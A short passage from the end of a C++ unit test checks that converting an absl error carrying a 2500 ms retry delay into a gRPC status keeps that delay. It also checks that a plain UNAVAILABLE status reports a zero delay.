  grpc::Status with_delay = ToGrpcStatus(
      api::WithRetryDelay(absl::UnavailableError("draining"), absl::Milliseconds(2500)));
  EXPECT_EQ(RetryDelayOf(with_delay), absl::Milliseconds(2500));
  EXPECT_EQ(RetryDelayOf(grpc::Status(grpc::StatusCode::UNAVAILABLE, "x")), absl::ZeroDuration());
}

}  // namespace
}  // namespace imp::impctl
